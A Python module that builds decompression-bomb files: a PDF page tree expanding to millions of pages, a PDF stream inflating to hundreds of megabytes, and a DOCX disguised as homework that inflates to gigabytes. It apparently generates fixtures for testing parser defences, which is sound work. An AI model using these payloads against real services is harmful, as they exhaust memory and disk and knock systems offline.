"""Hostile documents, built byte by byte: small on disk, enormous once opened."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx

MB = 1024 * 1024


def pdf(objects: list[bytes]) -> bytes:
    """A PDF with a correct xref table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def pdf_page_tree_bomb(fanout: int = 10, depth: int = 7) -> bytes:
    """A page tree `depth` levels deep, each node listing its child `fanout` times: under
    1 KB on disk, fanout**depth (10 million) pages once walked."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = len(objects) + 1
        kids = b" ".join(b"%d 0 R" % (number + 1) for _ in range(fanout))
        count = fanout ** (depth - level)
        objects.append(b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % len(objects))
    return pdf(objects)


def pdf_stream_bomb(expanded: int = 400 * MB) -> bytes:
    """A one-page PDF whose content stream inflates from about 400 KB to `expanded` bytes
    of text-showing operators."""
    operator = b"BT /F1 12 Tf (bomb) Tj ET\n"
    unit = operator * (MB // len(operator))
    repeat = expanded // len(unit)
    adler = 1
    for _ in range(repeat):
        adler = zlib.adler32(unit, adler)
    data = b"\x78\xda" + _raw_deflate_repeated(b"", unit, repeat) + struct.pack(">I", adler)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            stream + data + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def _raw_deflate_repeated(prefix: bytes, unit: bytes, repeat: int) -> bytes:
    """Raw deflate of prefix + unit * repeat, in time independent of `repeat`: after a full
    flush a block refers to nothing before it, so the unit's block can be repeated."""
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = head.compress(prefix) + head.flush(zlib.Z_FULL_FLUSH)
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = body.compress(unit) + body.flush(zlib.Z_FULL_FLUSH)
    return first + block * repeat + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def _crc_repeated(prefix: bytes, unit: bytes, repeat: int) -> int:
    crc = zlib.crc32(prefix)
    for _ in range(repeat):
        crc = zlib.crc32(unit, crc)
    return crc


def zip_archive(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already-deflated members: (name, raw deflate, crc32, uncompressed size)."""
    out = bytearray()
    central = bytearray()
    for name, data, crc, size in members:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0
        )
        out += encoded + data
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(data),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += encoded
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0
    )
    return bytes(out + central + end)


def docx_zip_bomb(expanded: int = 3 * 1024 * MB) -> bytes:
    """A real DOCX whose word/document.xml inflates to `expanded` bytes (3 GB by default)
    from about 3 MB: every other part is the genuine one, so it sniffs as Word."""
    document = docx.Document()
    document.add_paragraph("Looks like homework.")
    buffer = io.BytesIO()
    document.save(buffer)
    members = []
    with zipfile.ZipFile(buffer) as genuine:
        for info in genuine.infolist():
            content = genuine.read(info)
            if info.filename == "word/document.xml":
                prefix = content.split(b"<w:body>")[0] + b"<w:body><w:p><w:r><w:t>"
                unit = b"A" * MB
                repeat = expanded // MB
                data = _raw_deflate_repeated(prefix, unit, repeat)
                members.append(
                    (
                        info.filename,
                        data,
                        _crc_repeated(prefix, unit, repeat),
                        len(prefix) + repeat * MB,
                    )
                )
                continue
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            data = compressor.compress(content) + compressor.flush()
            members.append((info.filename, data, zlib.crc32(content), len(content)))
    return zip_archive(members)
